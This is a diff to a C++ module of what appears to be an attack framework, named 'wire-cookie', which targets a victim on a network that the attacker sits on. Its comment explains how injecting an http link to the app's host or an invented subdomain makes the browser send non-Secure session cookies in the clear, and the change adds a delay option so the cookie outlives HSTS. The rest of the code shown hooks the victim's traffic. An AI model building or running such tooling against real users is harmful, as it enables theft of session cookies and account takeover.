@@ -1,7 +1,7 @@
 // wire-cookie: in the victim's network, who has signed in over https as he should. A link to http,
 // on the app's own name or on one below it that need not even exist, makes the browser show in the
 // clear every cookie that is not Secure (RFC 6265bis 4.1.2.5; HSTS with includeSubDomains, RFC
-// 6797).
+// 6797). Option "wait": how long after the sign-in; the cookie may live longer than the HSTS.
 #include "core/attack/every_agent.h"
 #include "core/attack/lure.h"
 #include "core/attack/session.h"
@@ -13,6 +13,7 @@ namespace {
 class WireCookie final : public Agent {
     void run(Target& target) override {
         if (target.line() == nullptr || !victim_signs_in(target)) return;
+        target.wait(wait_option(target, Duration::zero()));
         std::string const app = target.surface().host;
         std::string const below = random_word(target, 6) + "." + app;
         target.line()->meddle([below](http::Request const& request, Line::Beyond const& beyond) {
